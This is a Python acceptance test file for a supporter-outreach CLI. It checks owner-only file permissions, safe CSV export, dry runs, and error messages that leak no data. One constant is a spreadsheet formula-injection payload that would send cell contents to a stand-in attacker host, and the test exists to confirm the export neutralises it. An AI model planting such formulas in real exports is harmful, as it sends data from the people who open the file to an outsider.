"""Private by default, safe to open in a spreadsheet, and errors that keep supporters' data
to themselves: `outreach` as a user runs it."""

from __future__ import annotations

import csv
import sqlite3
import stat
from pathlib import Path

from tests.acceptance.conftest import Outreach

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _write(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)


def test_database_outbox_and_export_are_readable_by_their_owner_only(
    project: Path, outreach: Outreach
) -> None:
    outreach("supporters", "import", "examples/supporters.csv")
    outreach("run", "--once", "--now", "2018-03-01T09:30:00-05:00")
    outreach("supporters", "export", "out.csv")
    for name in ("outreach.db", "outreach.db-wal", "outreach.db-shm", "out.csv"):
        if (project / name).exists() or name == "outreach.db":
            assert _mode(project / name) == 0o600, name
    emails = list((project / "outbox").rglob("*.eml"))
    assert emails
    assert {_mode(p) for p in emails} == {0o600}
    folders = {p for e in emails for p in e.parents if project / "outbox" in (p, *p.parents)}
    assert {_mode(p) for p in folders} == {0o700}


def test_an_export_is_safe_to_open_and_imports_back_unchanged(
    project: Path, outreach: Outreach
) -> None:
    rows = [
        ["email", "first_name", "last_name", "Member Since", "phone"],
        ["eve@example.org", ATTACK, "\t=1+1", "2009", "+1 613 555 0100"],
    ]
    _write(project / "in.csv", rows)
    outreach("supporters", "import", "in.csv")
    outreach("supporters", "export", "out.csv")
    with (project / "out.csv").open(encoding="utf-8", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert row["first_name"] == "'" + ATTACK
    assert row["last_name"] == "'=1+1"  # a defensive tab still defends: the export quotes it
    assert (row["member_since"], row["phone"]) == ("2009", "'+1 613 555 0100")
    again = outreach("supporters", "import", "out.csv").stdout
    assert "imported 0, updated 0, rejected 0, unchanged 1" in again


def test_a_dry_run_shows_the_changes_and_writes_nothing(project: Path, outreach: Outreach) -> None:
    _write(project / "a.csv", [["email", "city"], ["ana@example.org", "Laval"]])
    result = outreach("supporters", "import", "--dry-run", "a.csv")
    assert "would have imported 1, updated 0, rejected 0, unchanged 0" in result.stdout
    assert "imported 1, updated 0" in outreach("supporters", "import", "a.csv").stdout


def test_a_database_error_shows_no_supporters_data(project: Path, outreach: Outreach) -> None:
    outreach("supporters", "unsubscribe", "someone@example.org")  # makes the database
    with sqlite3.connect(project / "outreach.db") as conn:
        conn.execute(
            "CREATE TRIGGER refuse BEFORE INSERT ON supporters "
            "BEGIN SELECT RAISE(ABORT, 'refused'); END"
        )
    _write(project / "a.csv", [["email", "first_name"], ["émilie.secret@example.org", "Émilie"]])
    result = outreach("supporters", "import", "a.csv", check=False)
    assert result.returncode != 0
    assert "secret" not in result.stderr and "Émilie" not in result.stderr
    assert "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
